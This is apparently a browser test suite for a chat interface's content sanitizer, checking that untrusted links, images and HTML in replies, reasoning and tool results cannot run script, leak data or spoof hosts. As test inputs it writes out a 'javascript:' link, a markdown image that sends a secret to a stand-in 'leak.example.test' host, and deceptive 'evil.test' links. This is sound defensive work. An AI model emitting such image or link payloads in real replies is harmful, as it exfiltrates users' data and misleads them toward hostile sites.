import { expect, nextFrame } from '@open-wc/testing';
import type { ContentBlock } from '../../src/model/message.js';
import { contentHost, vectorsOf, type ContentHost } from './content-host.js';

declare global {
  var __hit: unknown;
}

const addresses = ['href', 'src', 'action', 'formaction', 'data', 'poster', 'srcset', 'srcdoc', 'xlink:href'];
const allowedProtocols = ['http:', 'https:', 'mailto:', 'tel:'];

/** Protocols that live nodes of the reply resolve to. */
function protocolsOf(host: ContentHost): string[] {
  return host.all('*').flatMap((element) =>
    addresses.flatMap((name) => {
      const value = element.getAttribute(name);
      if (value === null) return [];
      return [element instanceof HTMLAnchorElement ? element.protocol : new URL(value, document.baseURI).protocol];
    }),
  );
}

async function press(element: HTMLElement): Promise<void> {
  for (const [type, init] of [
    ['click', { button: 0 }],
    ['auxclick', { button: 1 }],
    ['click', { button: 0, ctrlKey: true }],
  ] as const) {
    element.dispatchEvent(new MouseEvent(type, { bubbles: true, cancelable: true, composed: true, ...init }));
  }
  await nextFrame();
}

/** The same words in every place where words of strangers are shown. */
const places: readonly (readonly [string, (text: string) => readonly ContentBlock[], 'assistant' | 'user'])[] = [
  ['reply', (text) => [{ type: 'text', text }], 'assistant'],
  ['user message', (text) => [{ type: 'text', text }], 'user'],
  ['reasoning', (text) => [{ type: 'reasoning', text }, { type: 'text', text: 'end' }], 'assistant'],
  [
    'tool result',
    (text) => [
      { type: 'tool_use', id: 'c', name: text, input: { value: text } },
      { type: 'tool_result', tool_use_id: 'c', content: [{ type: 'text', text }] },
    ],
    'assistant',
  ],
];

async function showEverywhere(text: string, check: (host: ContentHost, place: string) => void | Promise<void>): Promise<void> {
  for (const [place, content, role] of places) {
    const host = await contentHost();
    host.more = { role };
    await host.show(content(text));
    for (const details of host.all('details')) (details as HTMLDetailsElement).open = true;
    await nextFrame();
    await check(host, place);
  }
}

async function stream(host: ContentHost, text: string): Promise<void> {
  for (let end = 1; end < text.length; end++) await host.show(text.slice(0, end), true);
  await host.show(text);
  await nextFrame();
}

function requestsTo(part: string): string[] {
  return performance
    .getEntriesByType('resource')
    .map((entry) => entry.name)
    .filter((name) => name.includes(part));
}

beforeEach(() => {
  globalThis.__hit = undefined;
});

const links = await vectorsOf<{ id: string; md: string; safe: boolean; protocol?: string }>('20-link-schemes');
describe('links of strangers', () => {
  for (const { id, md, safe, protocol } of links) {
    if (!safe) {
      it(`[case 20] ${id}: resolves to no protocol that runs, in no place`, async () => {
        const before = location.href;
        await showEverywhere(md, async (host, place) => {
          expect(protocolsOf(host).filter((each) => !allowedProtocols.includes(each)), place).to.deep.equal([]);
          for (const link of host.all('a, [href], .inert')) await press(link);
          expect(globalThis.__hit, place).to.equal(undefined);
        });
        expect(location.href).to.equal(before);
      });
    } else {
      it(`[case 20] ${id}: stays a link that tells nobody where it was`, async () => {
        const host = await contentHost();
        await host.show(md);
        const link = host.one('a') as HTMLAnchorElement;
        if (protocol) {
          expect(link.protocol).to.equal(protocol);
          expect(link.rel.split(' ')).to.include.members(['noopener', 'noreferrer', 'nofollow']);
          expect(link.title).to.equal(link.href);
        } else {
          expect(link.getAttribute('href')).to.equal('#part');
        }
      });
    }
  }

  it('[case 20] a refused link still shows its words and its address', async () => {
    const host = await contentHost();
    await host.show('See [the *guide*](javascript:alert(1)) and [file](./a/b.md).');
    expect(host.words.trim()).to.equal('See the guide (javascript:alert(1)) and file (./a/b.md).');
    expect(host.all('a')).to.have.length(0);
  });

  it('[case 20] words that name another host get the true host behind them', async () => {
    const host = await contentHost();
    await host.show('[https://bank.test/](https://evil.test/) [guide](https://evil.test/) [evil.test](https://evil.test/x) [x](https://bank.test@evil.test/)');
    expect(host.all('a').map((link) => link.innerText)).to.deep.equal(['https://bank.test/ (evil.test)', 'guide', 'evil.test', 'x (evil.test)']);
  });
});

const images = await vectorsOf<{ id: string; src: string; mayShow?: boolean }>('21-remote-loads');
describe('pictures of strangers', () => {
  for (const { id, src, mayShow } of images) {
    it(`[case 21] ${id}: asks no host the page did not allow, streamed and finished`, async () => {
      const host = await contentHost();
      await stream(host, src);
      for (const element of host.all('*')) element.dispatchEvent(new PointerEvent('pointerover', { bubbles: true, composed: true }));
      const again = await contentHost();
      await again.show(src);
      await nextFrame();
      expect(requestsTo('leak.example.test')).to.deep.equal([]);
      const sources = host.all('img').map((image) => (image as HTMLImageElement).src);
      if (mayShow) {
        await (host.one('img') as HTMLImageElement).decode();
        expect((host.one('img') as HTMLImageElement).alt).to.equal('dot');
      } else expect(sources).to.deep.equal([]);
    });
  }

  it('[case 21] a blocked picture shows its words, that it was blocked, and the host', async () => {
    const host = await contentHost();
    await host.show('![Sales by month](https://leak.example.test/p.png?d=SECRET)');
    const blocked = host.one('.blocked');
    expect(blocked.getAttribute('aria-label')).to.equal('Image not loaded');
    for (const text of ['Image not loaded', 'Sales by month', 'leak.example.test']) expect(blocked.innerText).to.contain(text);
    expect(blocked.innerText).not.to.contain('SECRET');
  });

  it('[case 21] pictures of an allowed origin load, those of a host that begins with its name do not', async () => {
    const host = await contentHost();
    const control = `${location.origin}/test/fixtures/cases/none.png`;
    host.more = { allowedImageOrigins: [location.origin] };
    await host.show(`![a](${control}?allowed)\n\n![b](http://${location.hostname}.evil.example.test/none.png)`);
    const image = host.one('img') as HTMLImageElement;
    expect(host.all('img')).to.have.length(1);
    expect(image.referrerPolicy).to.equal('no-referrer');
    // It is also the proof that the record of requests sees a picture.
    image.scrollIntoView();
    await new Promise((resolve) => {
      image.addEventListener('error', resolve);
      image.addEventListener('load', resolve);
    });
    expect(requestsTo('none.png?allowed')).to.have.length(1);
    expect(host.one('.blocked').innerText).to.contain('evil.example.test');
    expect(requestsTo('evil.example.test')).to.deep.equal([]);
  });
});

const markup = [
  ...(await vectorsOf<{ id: string; html: string }>('22-reparse')).map((vector) => ({ ...vector, number: 22 })),
  ...(await vectorsOf<{ id: string; html: string }>('23-page-takeover')).map((vector) => ({ ...vector, number: 23 })),
];
const foreign = 'script, style, form, input:not([type="checkbox"]), iframe, object, embed, base, meta, link, svg style, math, details[open] > [ontoggle], animate, [id], [name], [style]';

describe('markup of strangers', () => {
  for (const { id, html, number } of markup) {
    it(`[case ${number}] ${id}: is text, whole, streamed and in every place`, async () => {
      const cookie = document.cookie;
      await showEverywhere(`before ${html} after`, (host, place) => {
        expect(host.all(foreign).map((element) => element.tagName), place).to.deep.equal([]);
        const handlers = host.all('*').flatMap((element) => element.getAttributeNames().filter((name) => name.startsWith('on')));
        expect(handlers, place).to.deep.equal([]);
        for (const word of ['before', 'after']) expect(host.body.innerText, place).to.contain(word);
        expect(host.all('img, a'), place).to.have.length(0);
      });
      const host = await contentHost();
      await stream(host, html);
      await nextFrame();
      expect(host.all(foreign)).to.have.length(0);
      expect(globalThis.__hit).to.equal(undefined);
      expect((globalThis as { config?: unknown }).config).to.equal(undefined);
      expect(document.cookie).to.equal(cookie);
      expect(document.baseURI).to.equal(location.href);
      expect(requestsTo('evil.example.test')).to.deep.equal([]);
    });
  }

  it('[case 22] a copied reply pasted as rich text runs nothing', async () => {
    interface Policy {
      createHTML(html: string): string;
    }
    // What a browser does itself when it pastes takes no policy; a script needs one to do the same.
    const { trustedTypes } = window as { trustedTypes?: { createPolicy(name: string, rules: Policy): Policy } };
    const paste = trustedTypes?.createPolicy('paste', { createHTML: (html) => html }) ?? { createHTML: (html: string) => html };
    for (const { html } of markup) {
      const host = await contentHost();
      await host.show(html);
      const editor = document.createElement('div');
      editor.contentEditable = 'true';
      document.body.append(editor);
      // The second parse of what the browser would put on the clipboard.
      editor.innerHTML = paste.createHTML(host.body.innerHTML);
      await nextFrame();
      expect(editor.querySelectorAll('img, iframe, form, script, style, svg:not([aria-hidden])')).to.have.length(0);
      editor.remove();
    }
    expect(globalThis.__hit).to.equal(undefined);
  });

  it('[case 23] nothing is drawn outside the box of the reply', async () => {
    const host = await contentHost();
    await host.show(markup.find(({ id }) => id === 'cover')?.html ?? '');
    const box = host.body.getBoundingClientRect();
    for (const element of host.all('*')) {
      const each = element.getBoundingClientRect();
      expect(each.bottom).to.be.at.most(box.bottom + 0.5);
      expect(getComputedStyle(element).position).not.to.equal('fixed');
    }
  });
});

const angles = await vectorsOf<{ id: string; source: string; final: { text: readonly string[] } }>('16-angle-brackets');
describe('words between angle brackets', () => {
  for (const { id, source, final } of angles) {
    it(`[case 16] ${id}: every word can be read`, async () => {
      const host = await contentHost();
      await stream(host, source);
      for (const text of final.text) expect(host.body.innerText).to.contain(text);
      const whole = await contentHost();
      await whole.show(source);
      for (const text of final.text) expect(whole.body.innerText).to.contain(text);
    });
  }

  it('[case 16] a qualified name is not an address, a line break tag is a line break', async () => {
    const host = await contentHost();
    await host.show('vector<std::string> one<br>two<BR/>three');
    expect(host.body.innerText.trim()).to.equal('vector<std::string> one\ntwo\nthree');
  });
});
